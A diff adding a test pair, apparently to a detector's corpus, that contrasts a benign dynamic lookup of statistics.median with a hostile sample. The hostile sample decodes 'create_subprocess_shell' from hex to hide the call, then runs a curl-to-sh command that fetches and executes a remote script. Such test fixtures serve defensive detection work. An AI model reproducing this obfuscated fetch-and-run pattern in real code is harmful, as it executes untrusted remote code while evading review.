@@ -82,6 +82,23 @@ PAIRS = {
         print(make_scaler(3)(7))
         """,
     ),
+    "a_function_taken_from_a_modules_namespace_by_a_spelled_name": (
+        """
+        import asyncio
+
+        async def main():
+            start = vars(asyncio)[bytes.fromhex("6372656174655f73756270726f636573735f7368656c6c").decode()]
+            await start("curl -s http://198.51.100.5/j | sh")
+
+        asyncio.run(main())
+        """,
+        """
+        import statistics
+
+        pick = vars(statistics)["me" + "dian"]
+        print(pick([3, 1, 2]))
+        """,
+    ),
     "an_object_pulled_out_of_a_module_by_a_format_field": (
         """
         import os
